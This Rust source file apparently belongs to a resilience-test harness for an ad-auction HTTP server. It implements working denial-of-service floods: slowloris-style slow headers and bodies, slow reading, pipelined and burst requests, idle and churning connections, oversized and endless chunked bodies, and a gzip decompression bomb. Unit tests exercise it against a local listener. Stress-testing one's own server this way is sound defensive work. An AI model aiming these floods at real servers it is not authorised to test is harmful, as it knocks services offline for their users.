//! Many connections that cost the server more than their sender: slow ones, silent ones, greedy ones.
//! Owns: its connections, all on the calling thread. Called by: the command line, the tests of attacks.
//! Never: sends more than its plan says; a connection that the server has ended is made again at its next beat, so the
//! pressure stays the same and bounded.
use super::Kind;
use flate2::{Compression, write::GzEncoder};
use socket2::{Domain, Protocol, Socket, Type};
use std::{
    collections::BTreeMap,
    fmt,
    io::{self, Read as _, Write as _},
    net::{SocketAddr, TcpStream},
    time::{Duration, Instant},
};

/// A connect that takes longer counts as refused: the listener's queue is full.
const CONNECT: Duration = Duration::from_millis(200);
/// Between two looks at whose beat it is.
const LOOK: Duration = Duration::from_millis(2);
/// Receive buffer of who does not take his answers: the kernel's least.
const SMALL_WINDOW: usize = 2_304;
/// Longest segment of who does not take his answers, as on an Ethernet: over the loopback's own, of 64 KB, the server's
/// kernel alone would hold megabytes of them.
const SEGMENT: u32 = 1_460;
/// What a bomb unpacks to: the default limit of a body, less its JSON.
const BOMB_BYTES: usize = outcry::limits::BODY_BYTES_DEFAULT - 1_024;
/// A body that is only just allowed by default.
const HOARD_BYTES: usize = outcry::limits::BODY_BYTES_DEFAULT - 1_024;

/// What it takes of what the server says.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Reads {
    All,
    Byte,
    Nothing,
}

/// A flood, and how much of it.
#[derive(Clone, Debug)]
pub struct Flood {
    /// What it is.
    pub kind: Kind,
    /// The bidder.
    pub target: SocketAddr,
    /// Connections at a time.
    pub connections: usize,
    /// For how long.
    pub time: Duration,
    /// Between two beats of one connection.
    pub beat: Duration,
    /// Sent when a connection is open.
    opening: Vec<u8>,
    /// Sent at each beat.
    piece: Vec<u8>,
    reads: Reads,
    /// Its end comes right after its beginning.
    brief: bool,
}

/// What a flood did, and what the server did to it.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Tally {
    /// What it was.
    pub name: String,
    /// Connections made, and those that were not to be had.
    pub opened: u64,
    /// Connections that were not to be had.
    pub refused: u64,
    /// Most at a time.
    pub open_most: usize,
    /// Open at the end.
    pub open_last: usize,
    /// Most connections at a time whose bytes the server did not take, or whose answers its sender did not.
    pub stuck_most: usize,
    /// Bytes that the server's kernel took.
    pub accepted: u64,
    /// Answers by status.
    pub statuses: BTreeMap<u16, u64>,
    /// Age of each connection that the server ended, milliseconds, sorted.
    pub ended_after_ms: Vec<u64>,
}

struct Conn {
    stream: Option<TcpStream>,
    due: Instant,
    born: Instant,
    /// What is left of the piece that is being sent.
    left: Vec<u8>,
    stuck: bool,
}

impl Flood {
    /// As it is made when nobody says how.
    pub fn new(kind: Kind, target: SocketAddr, path: &str) -> Flood {
        let post = format!("POST {path} HTTP/1.1\r\nHost: x\r\n");
        let with_length = |body: &str| format!("{post}Content-Length: {}\r\n\r\n{body}", body.len());
        let head = |more: &str| format!("{post}{more}").into_bytes();
        let flood = |connections, beat_ms, reads, opening: Vec<u8>, piece: Vec<u8>| Flood {
            kind,
            target,
            connections,
            time: Duration::from_secs(15),
            beat: Duration::from_millis(beat_ms),
            opening,
            piece,
            reads,
            brief: kind == Kind::Churn,
        };
        let auction = r#"{"id":"attack","tmax":100,"imp":[{"id":"1","banner":{"w":300,"h":250}}],"site":{}}"#;
        const BLOCK: usize = 64 * 1024;
        match kind {
            Kind::SlowHead => flood(1_000, 1_000, Reads::All, head("X-Slow: "), b"a".to_vec()),
            Kind::SlowBody => flood(1_000, 1_000, Reads::All, head("Content-Length: 200000\r\n\r\n{"), b" ".to_vec()),
            Kind::Hoard => {
                let most = " ".repeat(HOARD_BYTES - 2_000);
                let head = head(&format!("Content-Length: {HOARD_BYTES}\r\n\r\n{{{most}"));
                // A beat of the time a request may take: what comes at once comes at 26 MB a second.
                flood(500, 5_000, Reads::All, head, b" ".to_vec())
            }
            Kind::SlowRead => flood(300, 1_000, Reads::Byte, Vec::new(), with_length(auction).repeat(4).into_bytes()),
            // Refused before an auction: what it costs is answering.
            Kind::Pipeline => flood(300, 500, Reads::Nothing, Vec::new(), with_length("{").repeat(8).into_bytes()),
            // For nobody: what it costs is reading.
            Kind::Burst => {
                let request = b"GET /nobody HTTP/1.1\r\nHost: x\r\n\r\n";
                flood(4, 1_000, Reads::All, Vec::new(), request.repeat(20_000))
            }
            Kind::Idle | Kind::Shapes => flood(5_000, 1_000, Reads::All, Vec::new(), Vec::new()),
            Kind::Blank => flood(100, 100, Reads::All, Vec::new(), b"\r\n".repeat(50)),
            Kind::Length => flood(16, 50, Reads::All, head("Content-Length: 1073741824\r\n\r\n"), vec![b' '; BLOCK]),
            Kind::Chunks => {
                let chunk = [format!("{BLOCK:x}\r\n").as_bytes(), &vec![b' '; BLOCK], b"\r\n"].concat();
                flood(16, 50, Reads::All, head("Transfer-Encoding: chunked\r\n\r\n"), chunk)
            }
            Kind::Bomb => {
                let packed = bomb(auction);
                let head = head(&format!("Content-Encoding: gzip\r\nContent-Length: {}\r\n\r\n", packed.len()));
                flood(20, 100, Reads::All, Vec::new(), [head, packed].concat())
            }
            Kind::Churn => flood(50, 100, Reads::All, Vec::new(), Vec::new()),
        }
    }

    /// Makes it.
    pub fn run(&self) -> Tally {
        let mut tally = Tally { name: self.kind.name(), ..Tally::default() };
        let began = Instant::now();
        let end = began + self.time;
        let mut conns: Vec<Conn> = (0..self.connections)
            .map(|i| {
                // Spread over a beat, so that they neither come nor act all at once.
                let due = began + self.beat.mul_f64(i as f64 / self.connections as f64);
                Conn { stream: None, due, born: due, left: Vec::new(), stuck: false }
            })
            .collect();
        loop {
            let now = Instant::now();
            if now >= end {
                break;
            }
            for conn in &mut conns {
                if now < conn.due {
                    continue;
                }
                conn.due = now + self.beat;
                if conn.stream.is_none() {
                    self.open(conn, &mut tally);
                }
                if let Some(stream) = conn.stream.take() {
                    conn.stream = self.act(stream, conn, &mut tally);
                }
            }
            let open = conns.iter().filter(|c| c.stream.is_some()).count();
            tally.open_most = tally.open_most.max(open);
            tally.open_last = open;
            tally.stuck_most = tally.stuck_most.max(conns.iter().filter(|c| c.stuck).count());
            std::thread::sleep(LOOK.min(end.saturating_duration_since(Instant::now())));
        }
        tally.ended_after_ms.sort_unstable();
        tally
    }

    fn open(&self, conn: &mut Conn, tally: &mut Tally) {
        match self.connect() {
            Ok(stream) => {
                tally.opened += 1;
                conn.stream = Some(stream);
                conn.born = Instant::now();
                conn.left.clear();
                conn.left.extend_from_slice(&self.opening);
                conn.stuck = false;
            }
            Err(_) => tally.refused += 1,
        }
    }

    fn connect(&self) -> io::Result<TcpStream> {
        let socket = Socket::new(Domain::for_address(self.target), Type::STREAM, Some(Protocol::TCP))?;
        if self.reads != Reads::All {
            socket.set_recv_buffer_size(SMALL_WINDOW)?;
            socket.set_tcp_mss(SEGMENT)?;
        }
        socket.connect_timeout(&self.target.into(), CONNECT)?;
        socket.set_tcp_nodelay(true)?;
        socket.set_nonblocking(true)?;
        Ok(socket.into())
    }

    /// One beat; gives the stream back unless the connection is over.
    fn act(&self, mut stream: TcpStream, conn: &mut Conn, tally: &mut Tally) -> Option<TcpStream> {
        if self.brief {
            return None;
        }
        if conn.left.is_empty() {
            conn.left.extend_from_slice(&self.piece);
        }
        let ended = self.listen(&mut stream, tally).is_err() || push(&mut stream, conn, tally).is_err();
        if ended {
            tally.ended_after_ms.push(conn.born.elapsed().as_millis() as u64);
            conn.stuck = false;
            return None;
        }
        conn.stuck = !conn.left.is_empty();
        Some(stream)
    }

    fn listen(&self, stream: &mut TcpStream, tally: &mut Tally) -> io::Result<()> {
        let mut part = [0; 16 * 1024];
        let room = match self.reads {
            Reads::All => &mut part[..],
            Reads::Byte => &mut part[..1],
            Reads::Nothing => return Ok(()),
        };
        loop {
            match stream.read(room) {
                Ok(0) => return Err(io::ErrorKind::UnexpectedEof.into()),
                Ok(_) if self.reads == Reads::Byte => return Ok(()),
                Ok(n) => {
                    for at in memchr::memmem::find_iter(&room[..n], b"HTTP/1.1 ") {
                        let digits = room.get(at + 9..at + 12).and_then(|d| std::str::from_utf8(d).ok());
                        if let Some(status) = digits.and_then(|d| d.parse().ok()) {
                            *tally.statuses.entry(status).or_default() += 1;
                        }
                    }
                }
                Err(e) if e.kind() == io::ErrorKind::WouldBlock => return Ok(()),
                Err(e) => return Err(e),
            }
        }
    }
}

/// Sends what is left, as far as the kernel takes it.
fn push(stream: &mut TcpStream, conn: &mut Conn, tally: &mut Tally) -> io::Result<()> {
    while !conn.left.is_empty() {
        match stream.write(&conn.left) {
            Ok(n) => {
                tally.accepted += n as u64;
                conn.left.drain(..n);
            }
            Err(e) if e.kind() == io::ErrorKind::WouldBlock => break,
            Err(e) => return Err(e),
        }
    }
    Ok(())
}

/// A request with so many blanks before it that it just fits, packed: some three hundred bytes.
fn bomb(request: &str) -> Vec<u8> {
    let plain = [&vec![b' '; BOMB_BYTES], request.as_bytes()].concat();
    let mut packer = GzEncoder::new(Vec::new(), Compression::best());
    // Writing to memory cannot fail.
    let _ = packer.write_all(&plain);
    packer.finish().unwrap_or_default()
}

impl fmt::Display for Tally {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(
            f,
            "{}: {} connections made, {} not to be had; {} open at most, {} at the end, {} stuck at most",
            self.name, self.opened, self.refused, self.open_most, self.open_last, self.stuck_most
        )?;
        let answers: Vec<String> = self.statuses.iter().map(|(status, n)| format!("{status} x {n}")).collect();
        let answers = if answers.is_empty() { "none seen".to_owned() } else { answers.join(", ") };
        writeln!(f, "{}: {} bytes accepted; answers: {answers}", self.name, self.accepted)?;
        let ages = &self.ended_after_ms;
        match (ages.get(ages.len() / 2), ages.last()) {
            (Some(median), Some(last)) => writeln!(
                f,
                "{}: {} connections ended by the server, after {median} ms in the median, {last} ms at the latest",
                self.name,
                ages.len()
            ),
            _ => writeln!(f, "{}: no connection ended by the server", self.name),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use flate2::read::GzDecoder;
    use std::net::TcpListener;

    #[test]
    fn a_bomb_is_small_and_unpacks_to_a_request_that_fits() {
        let packed = bomb("{}");
        assert!(packed.len() < 512, "{}", packed.len());
        let mut plain = Vec::new();
        GzDecoder::new(&packed[..]).read_to_end(&mut plain).expect("gzip");
        assert!(plain.len() <= outcry::limits::BODY_BYTES_DEFAULT, "{}", plain.len());
        assert_eq!((plain.len(), plain.trim_ascii()), (BOMB_BYTES + 2, b"{}".as_slice()));
    }

    #[test]
    fn what_the_server_does_is_told() {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
        let target = listener.local_addr().expect("an address");
        // Takes the first bytes, answers, leaves.
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let _ = stream.read(&mut [0; 64]);
                let _ = stream.write_all(b"HTTP/1.1 408 Request Timeout\r\nContent-Length: 0\r\n\r\n");
            }
        });
        let mut flood = Flood::new(Kind::SlowHead, target, "/");
        (flood.connections, flood.beat, flood.time) = (4, Duration::from_millis(5), Duration::from_millis(400));
        let tally = flood.run();
        let answered: u64 = tally.statuses.values().sum();
        assert!(tally.opened > 4 && tally.accepted > 0 && tally.open_most > 0, "{tally:?}");
        assert!(answered > 0 && tally.statuses.keys().all(|s| *s == 408), "{tally:?}");
        assert!(!tally.ended_after_ms.is_empty() && tally.refused == 0, "{tally:?}");
        assert!(tally.to_string().contains("408 x "), "{tally}");
    }
}
